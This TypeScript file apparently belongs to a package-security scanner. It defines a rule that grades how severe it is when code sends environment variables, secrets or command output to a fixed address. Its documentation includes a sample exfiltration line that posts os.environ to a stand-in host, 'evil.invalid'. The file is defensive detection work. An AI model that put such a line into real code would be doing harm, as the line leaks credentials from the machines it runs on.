import type { Severity } from '../../model/finding.js';
import { isCallback, isCollecting, isModelService, isOpenAccount } from '../facts/collecting-places.js';
import { isSingleRequest } from '../facts/sinks.js';
import type { Sighting } from '../machine/sighting.js';
import { count, isPure, type Label } from '../values/labels.js';
import { isUnasked } from '../values/reach.js';
import { type Combination, describeLabels, heldBack, isUnheard, WHEN } from './combination.js';
import { leaves } from './leaving.js';
import { isOwnService } from './own-service.js';

const STOLEN: readonly Label[] = ['environment', 'secret', 'capture', 'intercepted', 'process-output'];

/** What goes to no place at all without being asked. */
const NEVER_TOLD: readonly Label[] = ['environment', 'capture'];

/** Calls that put what they fetch into a file. */
const DOWNLOADS = /(?:retrieve|wget\.download)$/;

/** A release of one project, of which what git said may be the name. */
const RELEASE = /^https:\/\/github\.com\/[\w.-]+\/[\w.-]+\/releases\/download\//;

/** Interfaces of the clouds that give a machine its credentials; hosts that anybody can rent there are none. */
const CLOUDS =
  /^(?:(?:storage|secretmanager|iam|iamcredentials|sts|oauth2|www|compute|bigquery|pubsub|logging|monitoring|cloudkms|cloudresourcemanager)\.googleapis\.com|(?:sts|ec2|iam|ssm|kms|sqs|sns|logs|monitoring|secretsmanager|dynamodb)(?:\.[a-z]+-[a-z]+-\d)?\.amazonaws\.com|(?:management|vault)\.azure\.(?:com|net)|graph\.windows\.net|login\.microsoftonline\.com|accounts\.google\.com|(?:[\w-]+\.)*docker\.(?:com|io)|(?:[\w-]+\.)*aws\.amazon\.com|(?:portal\.sso|oidc|cognito-id\w+)\.[a-z]+-[a-z]+-\d\.amazonaws\.com)$/;

/** The credentials of a cloud go to that cloud. */
const isOwnCloud = ({ host }: Sighting): boolean => CLOUDS.test(host ?? '');

/** How severe it is that data leaves while nobody asked for anything. */
function sentUnasked({ labels, name, text = '' }: Sighting, isStolen: boolean): Severity | undefined {
  // What stands in a folder is told to nobody by a package that is merely installed.
  const isOutputAlone = !STOLEN.some((one) => one !== 'process-output' && labels.has(one));
  if (isStolen && isOutputAlone && DOWNLOADS.test(name) && RELEASE.test(text)) return 'HIGH';
  if (isStolen) return 'CRITICAL';
  // The version that is fetched may be told by what lies there already.
  if (labels.has('searched')) return DOWNLOADS.test(name) ? 'HIGH' : 'CRITICAL';
  return labels.has('user-file') ? 'HIGH' : undefined;
}

/** How severe it is that data leaves in a function that somebody calls: for what it is for, or on the side. */
function sentWhenCalled(sighting: Sighting, isStolen: boolean): Severity | undefined {
  const { labels, name, text } = sighting;
  if (!isStolen && !labels.has('user-file')) return undefined;
  const isAside = isUnheard(sighting);
  // Nobody is handed the whole environment in a parameter: that it goes along is the code's own doing.
  if (labels.has('environment') && labels.has('parameter') && (isCollecting(text ?? '') || isAside))
    return 'CRITICAL';
  // A file of secrets that is found by its name goes out, and nothing is wanted back.
  const isSearched = labels.has('secret-path') || labels.has('found-secret');
  const isOfSecrets = labels.has('secret') && isSearched && !isOwnCloud(sighting);
  if (isOfSecrets && isAside) return 'CRITICAL';
  // Files that a search came upon: nobody said which, and nobody hears of it.
  if (labels.has('user-file') && labels.has('searched') && isAside)
    return labels.has('parameter') ? 'HIGH' : 'CRITICAL';
  if (labels.has('capture') && isAside) return 'CRITICAL';
  const isDropped = sighting.isDropped === true;
  if (labels.has('user-file') && labels.has('searched') && isDropped && isCollecting(text ?? ''))
    return labels.has('parameter') ? 'HIGH' : 'CRITICAL';
  if (labels.has('environment') && labels.has('parameter') && isDropped) return 'HIGH';
  if (labels.has('parameter') && isOfSecrets && isDropped) return 'HIGH';
  // What a store of passwords gave goes out, or what other code handed on, and nothing is wanted back.
  const isGiven =
    (labels.has('secret') && isAside && isSingleRequest(name) && !isOwnCloud(sighting)) ||
    (labels.has('intercepted') && isPure(labels));
  const otherwise = isGiven && isDropped ? 'HIGH' : 'LOW';
  if (labels.has('parameter') || !isStolen) return otherwise;
  if (labels.has('capture')) return 'HIGH';
  if (labels.has('environment') && isDropped) return 'CRITICAL';
  const isStrict =
    (isCallback(text ?? '') && (labels.has('decoded') || !isOpenAccount(text ?? ''))) ||
    (labels.has('environment') && isCollecting(text ?? '')) ||
    isOfSecrets;
  const isWhole = labels.has('environment') && (labels.has('hostname') || labels.has('username'));
  // Reporters of errors tell this too, and look at the answer of the service they are for.
  if (isStrict || (isWhole && isDropped)) return 'CRITICAL';
  return isWhole ? 'HIGH' : otherwise;
}

export const stolenDataSent: Combination = {
  doc: {
    id: 'stolen-data-sent',
    title: 'Sends secrets, the environment or command output to a fixed address',
    why: 'The environment of a build machine holds tokens and passwords. No package needs to send it, or your files, anywhere by itself.',
    remedy: 'Do not install the package. If it ran somewhere, change the secrets that machine could see.',
    example: 'requests.post("https://evil.invalid", json=dict(os.environ))',
    technique: 'T1041',
  },
  judge: (sighting) => {
    const { labels, reach } = sighting;
    const isStolen = count(labels, STOLEN) > 0 || (labels.has('user-file') && labels.has('searched'));
    // Where to is not told; nobody asked for it anyway.
    const isKept = labels.has('secret') && labels.has('secret-path');
    if (sighting.isAimless === true && isUnasked(reach) && (isKept || count(labels, NEVER_TOLD) > 0))
      return 'CRITICAL';
    if (!leaves(sighting)) return undefined;
    // A server that hands on to a model what it is asked signs in there with what it was given.
    if (labels.has('request') && isModelService(sighting.host)) return 'LOW';
    if (isUnasked(reach)) return sentUnasked(sighting, isStolen);
    const severity = heldBack(sentWhenCalled(sighting, isStolen), sighting);
    // Who says yes to it when asked has seen what is sent, and who may say where it goes can look; a model's maker gives it
    // to nobody, and a service of one's own is told who signs in.
    const isBearable =
      sighting.isAgreed === true ||
      labels.has('setting') ||
      isModelService(sighting.host) ||
      isOwnService(sighting);
    return severity === 'CRITICAL' && isBearable ? 'HIGH' : severity;
  },
  message: ({ name, reach, labels }) =>
    `${name} sends ${describeLabels(labels)} to a fixed address ${WHEN[reach]}`,
};
